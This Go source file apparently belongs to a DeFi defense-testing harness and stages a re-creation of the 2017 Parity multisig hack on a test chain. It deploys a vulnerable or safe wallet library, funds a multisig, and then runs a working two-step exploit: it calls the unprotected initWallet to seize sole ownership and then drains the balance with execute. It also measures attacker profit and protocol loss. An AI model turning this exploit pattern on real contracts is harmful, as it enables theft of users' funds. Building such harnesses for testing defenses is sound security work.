package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"

	"github.com/aegis-defi/aegis/internal/chain"
)

// InitializerTakeover re-creates the Parity multisig hack of July 2017: the
// wallet forwards every unknown call to its library by delegatecall, and the
// library's initWallet is unprotected, so anyone can make themselves the
// wallet's sole owner and then move its funds.
//
// Setup deploys ParityWalletLibrary or SafeWalletLibrary and a
// MultisigWallet over it owned 2-of-3 by Users[0..2]; four users send 25 ETH
// each to it (100 ETH). The exploit is two transactions straight from the
// attacker's EOA, as in the original: initWallet([attacker], 1), then
// execute(attacker, balance, "").
//
// AttackerProfit is the attacker EOA's ETH change plus its exploit gas fees;
// ProtocolLoss is the wallet's ETH decrease.
type InitializerTakeover struct{}

// Amounts used by the InitializerTakeover scenario.
const (
	walletUsers   = 4
	walletOwners  = 3
	walletDeposit = 25
)

// Info implements Scenario.
func (InitializerTakeover) Info() Info {
	return Info{
		Name:     "initializer-takeover",
		Class:    "unprotected initializer",
		Incident: "Parity multisig 2017",
		Summary:  "The attacker calls the multisig's forwarded, unprotected initWallet to make itself sole owner with one required confirmation, then executes a transfer of the whole balance to itself.",
	}
}

// Setup implements Scenario.
func (InitializerTakeover) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	if err := requireUsers(env, walletUsers); err != nil {
		return nil, err
	}
	c := env.Client
	libName := "ParityWalletLibrary"
	if v == Safe {
		libName = "SafeWalletLibrary"
	}
	lib, err := deployNamed(ctx, c, env.Deployer, libName)
	if err != nil {
		return nil, err
	}
	owners := make([]common.Address, walletOwners)
	for i := range owners {
		owners[i] = env.Users[i].Address
	}
	w, err := deployNamed(ctx, c, env.Deployer, "MultisigWallet", lib.Address, owners, big.NewInt(2), env.Guardian.Address)
	if err != nil {
		return nil, err
	}
	for _, u := range env.Users[:walletUsers] {
		if err := sendETH(ctx, c, u, w.Address, chain.Ether(walletDeposit)); err != nil {
			return nil, fmt.Errorf("fund wallet: %w", err)
		}
	}
	// Calls to the wallet go through its fallback to the library: bind the
	// wallet's address with the library's ABI.
	wallet, err := bindNamed(c, libName, w.Address)
	if err != nil {
		return nil, err
	}
	s := &initializerStaged{client: c, attackerEOA: env.Attacker, wallet: wallet}
	if s.profit, err = newProfitMeter(ctx, c, nil, env.Attacker.Address); err != nil {
		return nil, err
	}
	if s.loss, err = newBalanceMeter(ctx, c, nil, wallet.Address); err != nil {
		return nil, err
	}
	return s, nil
}

type initializerStaged struct {
	client      *chain.Client
	attackerEOA chain.Account
	wallet      *chain.Contract
	profit      *profitMeter
	loss        *balanceMeter
	txs         []*types.Transaction
}

// Targets implements Staged.
func (s *initializerStaged) Targets() []Target {
	return []Target{{Name: "MultisigWallet", Address: s.wallet.Address, Pausable: true}}
}

// Exploit implements Staged.
func (s *initializerStaged) Exploit(ctx context.Context) ([]*types.Transaction, error) {
	me := s.attackerEOA.Address
	take, err := buildCall(ctx, s.client, s.attackerEOA, s.wallet, nil, "initWallet", []common.Address{me}, big.NewInt(1))
	if err != nil {
		return nil, fmt.Errorf("initializer takeover: %w", err)
	}
	bal, err := ethBalance(ctx, s.client, s.wallet.Address)
	if err != nil {
		return nil, err
	}
	drain, err := buildCall(ctx, s.client, s.attackerEOA, s.wallet, nil, "execute", me, bal, []byte{})
	if err != nil {
		return nil, fmt.Errorf("initializer drain: %w", err)
	}
	s.txs = []*types.Transaction{take, drain}
	return s.txs, nil
}

// Outcome implements Staged.
func (s *initializerStaged) Outcome(ctx context.Context) (Outcome, error) {
	p, err := s.profit.profit(ctx, s.txs)
	if err != nil {
		return Outcome{}, fmt.Errorf("initializer profit: %w", err)
	}
	l, err := s.loss.loss(ctx)
	if err != nil {
		return Outcome{}, fmt.Errorf("initializer loss: %w", err)
	}
	return Outcome{AttackerProfit: p, ProtocolLoss: l}, nil
}
